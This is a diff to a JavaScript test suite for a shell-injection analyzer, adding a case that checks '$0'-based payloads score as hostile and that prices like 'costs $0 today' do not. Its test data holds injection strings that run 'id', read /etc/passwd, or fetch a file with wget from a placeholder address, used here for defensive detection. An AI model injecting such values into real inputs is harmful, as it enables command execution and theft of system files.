@@ -126,6 +126,12 @@ describe("shell analyzer", () => {
     for (const v of ["\"ls\"", "{id,name}", "O'keefe's"]) expect(s(v)).toBeLessThan(0.8);
   });
 
+  test("$0 names the shell that runs the line, as $SHELL names the user's", () => {
+    for (const v of [";$0 -c id", "echo id|$0", "x;${0} -c 'cat /etc/passwd'"]) expect(s(v)).toBeGreaterThanOrEqual(0.85);
+    // A price, and a positional parameter with more digits, name no shell.
+    for (const v of ["costs $0 today", "a;$01 b"]) expect(s(v)).toBeLessThan(0.8);
+  });
+
   test("a word of empty expansions before a command is dropped, as the shell drops it", () => {
     for (const v of [";$a cat /etc/passwd", "1;${x} id", "|$@ wget http://198.51.100.7/a", "$u whoami", ";$a $b cat /etc/passwd", ";$u $u $u id", "${u} ${v} ${w} whoami", ";{$u,cat,/etc/passwd}"]) {
       expect(s(v)).toBeGreaterThanOrEqual(0.85);
